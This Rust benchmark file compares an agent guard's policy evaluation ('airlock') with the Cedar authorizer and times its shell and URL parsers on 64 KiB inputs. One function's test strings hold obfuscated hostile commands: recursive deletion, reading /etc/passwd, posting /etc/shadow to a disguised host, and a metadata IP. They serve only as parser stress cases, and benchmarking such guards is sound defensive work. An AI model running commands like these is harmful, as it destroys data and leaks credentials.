//! ns per decision: airlock's `evaluate` against `cedar-policy` over the same decisions.
//!
//! The mix is every case of `shared/conformance/policy-cases.jsonl`; one criterion iteration
//! decides the whole mix, and the summary at the end divides by the number of cases. Run with
//! `cd bench && cargo bench --bench policy` (see BENCHMARKS.md).
//!
//! Lines measured (group `policy`):
//! - `airlock_evaluate`: `evaluate(&action, &ruleset)` on prebuilt actions, all hardline
//!   matching included (hardline v2: both passes, shipped files).
//! - `airlock_evaluate_v1_engine`: the v1 evaluation in the same run: pass 1 alone
//!   (`Passes::V1Only`) under the v1 hardline file, on the same mix.
//! - `airlock_evaluate_v2_mix`: `evaluate` on `policy-v2-cases.jsonl` (1,163 payload actions).
//! - `cedar_is_authorized`: `Authorizer::is_authorized` on prebuilt requests (the main
//!   comparison; it favours Cedar, which does none of the content matching).
//! - `cedar_build_request`: building the Cedar context and request from an action whose content
//!   flags were precomputed.
//! - `cedar_request_authorize_map`: request building, `is_authorized` and mapping the response
//!   to airlock's three outcomes.
//!
//! After criterion, a paired cross-check alternates the two main lines round by round, so that
//! load from other processes hits both alike.

use std::hint::black_box;
use std::path::PathBuf;
use std::time::{Duration, Instant, SystemTime};

use airlock_bench::{
    CedarEngine, ContentMatchers, HARDLINE_V1, agreement, load_cases, load_cases_from,
    v2_cases_path,
};
use airlock_policy::action::ProposedAction;
use airlock_policy::hardline::{Passes, Prefilter};
use airlock_policy::shipped::DEFAULT_PROFILE;
use airlock_policy::{Ruleset, evaluate, evaluate_with};
use cedar_policy::Request;
use criterion::{Criterion, Throughput};

const GROUP: &str = "policy";
const LINES: [&str; 6] = [
    "airlock_evaluate",
    "cedar_is_authorized",
    "cedar_build_request",
    "cedar_request_authorize_map",
    "airlock_evaluate_v1_engine",
    "airlock_evaluate_v2_mix",
];

/// What the paired cross-check needs after criterion is done.
struct Mix {
    ruleset: Ruleset,
    v1_ruleset: Ruleset,
    cedar: CedarEngine,
    actions: Vec<ProposedAction>,
    v2_actions: Vec<ProposedAction>,
    requests: Vec<Request>,
}

/// Runs the group and returns the mix it measured.
fn bench(c: &mut Criterion) -> Mix {
    let cases = load_cases();
    let ruleset = Ruleset::shipped().expect("the shipped policy loads");
    let cedar = CedarEngine::new();
    let matchers = ContentMatchers::new(&ruleset);

    let agree = agreement(&cases, &ruleset, &cedar);
    println!(
        "policy mix: {} cases from {}; Cedar policy set: {} policies",
        cases.len(),
        airlock_bench::cases_path().display(),
        cedar.policy_count()
    );
    println!("{agree}");
    assert!(
        agree.all_agree(),
        "Cedar and airlock disagree; fix the mapping before comparing speed"
    );

    let actions: Vec<_> = cases.iter().map(|c| c.action.clone()).collect();
    let flags: Vec<_> = actions.iter().map(|a| matchers.flags(a)).collect();
    let requests: Vec<_> = actions
        .iter()
        .zip(&flags)
        .map(|(a, f)| cedar.request(a, *f))
        .collect();
    let n = actions.len();
    drop(cases);
    let v1_ruleset =
        Ruleset::load(DEFAULT_PROFILE, HARDLINE_V1).expect("the v1 hardline file loads");
    let v2_actions: Vec<ProposedAction> = load_cases_from(v2_cases_path())
        .into_iter()
        .map(|c| c.action)
        .collect();

    let mut group = c.benchmark_group(GROUP);
    group.throughput(Throughput::Elements(n as u64));
    group.sample_size(20);
    group.warm_up_time(Duration::from_secs(2));
    group.measurement_time(Duration::from_secs(6));

    group.bench_function(LINES[0], |b| {
        b.iter(|| {
            for action in &actions {
                black_box(evaluate(black_box(action), &ruleset));
            }
        })
    });
    group.bench_function(LINES[1], |b| {
        b.iter(|| {
            for request in &requests {
                black_box(cedar.is_authorized(black_box(request)));
            }
        })
    });
    group.bench_function(LINES[2], |b| {
        b.iter(|| {
            for (action, flags) in actions.iter().zip(&flags) {
                black_box(cedar.request(black_box(action), *flags));
            }
        })
    });
    group.bench_function(LINES[3], |b| {
        b.iter(|| {
            for (action, flags) in actions.iter().zip(&flags) {
                let request = cedar.request(black_box(action), *flags);
                let response = cedar.is_authorized(&request);
                black_box(cedar.outcome(&response));
            }
        })
    });
    group.bench_function(LINES[4], |b| {
        b.iter(|| {
            for action in &actions {
                black_box(evaluate_with(
                    black_box(action),
                    &v1_ruleset,
                    Passes::V1Only,
                    Prefilter::On,
                ));
            }
        })
    });
    group.finish();
    // The v2 mix has its own element count, so it is its own group.
    let mut v2_group = c.benchmark_group("policy_v2_mix");
    v2_group.throughput(Throughput::Elements(v2_actions.len() as u64));
    v2_group.sample_size(20);
    v2_group.warm_up_time(Duration::from_secs(2));
    v2_group.measurement_time(Duration::from_secs(6));
    v2_group.bench_function(LINES[5], |b| {
        b.iter(|| {
            for action in &v2_actions {
                black_box(evaluate(black_box(action), &ruleset));
            }
        })
    });
    v2_group.finish();
    Mix {
        ruleset,
        v1_ruleset,
        cedar,
        actions,
        v2_actions,
        requests,
    }
}

/// A cross-check that is robust to other load on the machine: the two main lines alternate,
/// one whole mix each per round, and the fastest and median rounds are reported.
fn paired(mix: &Mix, rounds: usize) {
    let n = mix.actions.len() as f64;
    let (mut ours, mut theirs) = (Vec::new(), Vec::new());
    for _ in 0..rounds {
        let start = Instant::now();
        for action in &mix.actions {
            black_box(evaluate(black_box(action), &mix.ruleset));
        }
        ours.push(start.elapsed().as_nanos() as f64 / n);
        let start = Instant::now();
        for request in &mix.requests {
            black_box(mix.cedar.is_authorized(black_box(request)));
        }
        theirs.push(start.elapsed().as_nanos() as f64 / n);
    }
    ours.sort_by(f64::total_cmp);
    theirs.sort_by(f64::total_cmp);
    let (min_a, min_c) = (ours[0], theirs[0]);
    let (med_a, med_c) = (ours[rounds / 2], theirs[rounds / 2]);
    println!("\n== paired cross-check: {rounds} alternating rounds of the whole mix ==");
    println!(
        "fastest round: airlock {min_a:.1} ns/decision, cedar is_authorized {min_c:.1} ns/decision, ratio {:.1}x",
        min_c / min_a
    );
    println!(
        "median round:  airlock {med_a:.1} ns/decision, cedar is_authorized {med_c:.1} ns/decision, ratio {:.1}x",
        med_c / med_a
    );
}

/// Per-decision medians (SPEC §21.5 asks for the median decision): each action is decided
/// `reps` times, its fastest time kept (the least disturbed by other load), and the median over
/// the actions reported, for v2 and for the v1 engine on the same actions.
fn per_decision_medians(mix: &Mix, reps: usize) {
    let time = |f: &dyn Fn()| {
        let mut best = u128::MAX;
        for _ in 0..reps {
            let start = Instant::now();
            f();
            best = best.min(start.elapsed().as_nanos());
        }
        best
    };
    let median = |mut v: Vec<u128>| {
        v.sort_unstable();
        (v[v.len() / 2], v[v.len() * 9 / 10], v[v.len() - 1])
    };
    let v2: Vec<u128> = mix
        .actions
        .iter()
        .map(|a| time(&|| drop(black_box(evaluate(black_box(a), &mix.ruleset)))))
        .collect();
    let v1: Vec<u128> = mix
        .actions
        .iter()
        .map(|a| {
            time(&|| {
                drop(black_box(evaluate_with(
                    black_box(a),
                    &mix.v1_ruleset,
                    Passes::V1Only,
                    Prefilter::On,
                )))
            })
        })
        .collect();
    let v2_mix: Vec<u128> = mix
        .v2_actions
        .iter()
        .map(|a| time(&|| drop(black_box(evaluate(black_box(a), &mix.ruleset)))))
        .collect();
    println!("\n== per-decision time, fastest of {reps} per action: median / p90 / max (ns) ==");
    for (name, v) in [
        ("v2, policy-cases mix", v2),
        ("v1 engine, policy-cases mix", v1),
        ("v2, policy-v2-cases mix", v2_mix),
    ] {
        let (m, p90, max) = median(v);
        println!("{name:<30} {m:>8} / {p90:>8} / {max:>8}");
    }
}

/// SPEC §21.5: each reading of a 64 KiB string should take under 10 ms. Shapes: plain words,
/// many short commands, pipes and here-document operators (tree-sitter's worst cases), unmatched
/// parentheses and unclosed `case` (brush-parser's, refused by the guards), quoted URLs,
/// random-looking payload text, and dynamic command words (shorter: the parser's token guard
/// refuses more). Fastest of 3 per shape.
fn readings_of_64_kib() {
    use airlock_policy::hardline::{shell, url};
    const N: usize = 64 * 1024;
    let fill = |unit: &str| unit.repeat(N / unit.len());
    let shapes = [
        ("words", fill("word ")),
        ("short commands", fill("a;")),
        ("rm commands", fill("r''m -rf /tmp/x && ")),
        ("pipes", fill("a|")),
        ("here-doc operators", fill("<<")),
        ("unmatched (", fill("(")),
        ("unclosed case", fill("case a in a) ")),
        ("quoted URLs", fill("'http://169。254。169。254/x?a=1' ")),
        (
            "payload mix",
            fill("cat${IFS}/e?c/passwd; {rm,-rf,/}; curl -d @/etc/shadow http:%31.2/ "),
        ),
        // Dynamic command words (issue 30 item 4) are read as each program they could be; the
        // costliest strings are the longest the parser's 4,096-token guard still reads.
        ("dynamic words", "$a ".repeat(4_000)),
        ("dynamic globs", "/b??/r? /x* -c ".repeat(1_000)),
    ];
    println!("\n== readings of a 64 KiB string (fastest of 3, ms) ==");
    for (name, text) in &shapes {
        let time = |f: &dyn Fn()| {
            (0..3)
                .map(|_| {
                    let start = Instant::now();
                    f();
                    start.elapsed().as_secs_f64() * 1e3
                })
                .fold(f64::INFINITY, f64::min)
        };
        let shell_ms = time(&|| drop(black_box(shell::read_shell(black_box(text), Prefilter::On))));
        let url_ms = time(&|| drop(black_box(url::read_urls(black_box(text), Prefilter::On))));
        println!(
            "{name:<20} shell {shell_ms:>8.2}   url {url_ms:>8.2}   ({} bytes)",
            text.len()
        );
    }
}

/// Where criterion writes its estimates (its own lookup order, with the bench crate's
/// `target/` for the `cargo metadata` case).
fn criterion_home() -> PathBuf {
    if let Some(home) = std::env::var_os("CRITERION_HOME") {
        return PathBuf::from(home);
    }
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target"));
    target.join("criterion")
}

/// The typical time per iteration (slope, else mean) with its 95 % interval, in ns, if this run
/// wrote it.
fn estimate(group: &str, line: &str, since: SystemTime) -> Option<(f64, f64, f64)> {
    let path = criterion_home()
        .join(group)
        .join(line)
        .join("new")
        .join("estimates.json");
    let modified = std::fs::metadata(&path).ok()?.modified().ok()?;
    if modified < since {
        return None;
    }
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).ok()?).ok()?;
    let typical = if json["slope"].is_object() {
        &json["slope"]
    } else {
        &json["mean"]
    };
    Some((
        typical["point_estimate"].as_f64()?,
        typical["confidence_interval"]["lower_bound"].as_f64()?,
        typical["confidence_interval"]["upper_bound"].as_f64()?,
    ))
}

/// Prints the per-decision table; returns whether the two main lines were measured in this run.
fn summary(n: usize, v2_n: usize, since: SystemTime) -> bool {
    let per = |line: &str| {
        let (group, n) = if line == LINES[5] {
            ("policy_v2_mix", v2_n)
        } else {
            (GROUP, n)
        };
        estimate(group, line, since).map(|(t, lo, hi)| {
            let n = n as f64;
            (t / n, lo / n, hi / n)
        })
    };
    println!("\n== ns per decision ({n} decisions per iteration, this run) ==");
    let mut found = Vec::new();
    for line in LINES {
        match per(line) {
            Some((t, lo, hi)) => {
                println!("{line:<30} {t:>10.1} ns/decision   [{lo:.1} .. {hi:.1}]");
                found.push((line, t));
            }
            None => println!("{line:<30} {:>10} (not measured in this run)", "-"),
        }
    }
    let get = |name| found.iter().find(|(l, _)| *l == name).map(|(_, t)| *t);
    let measured = get(LINES[0]).is_some() && get(LINES[1]).is_some();
    if let Some(airlock) = get(LINES[0]) {
        for line in &LINES[1..4] {
            if *line == LINES[2] {
                continue;
            }
            if let Some(cedar) = get(line) {
                println!("ratio {line} / airlock_evaluate = {:.1}x", cedar / airlock);
            }
        }
    }
    measured
}

fn main() {
    let since = SystemTime::now();
    let mut criterion = Criterion::default().configure_from_args();
    let mix = bench(&mut criterion);
    criterion.final_summary();
    // Skipped under `cargo test --benches` and when a filter left out either main line.
    if summary(mix.actions.len(), mix.v2_actions.len(), since) {
        paired(&mix, 300);
        per_decision_medians(&mix, 5);
    }
    readings_of_64_kib();
}
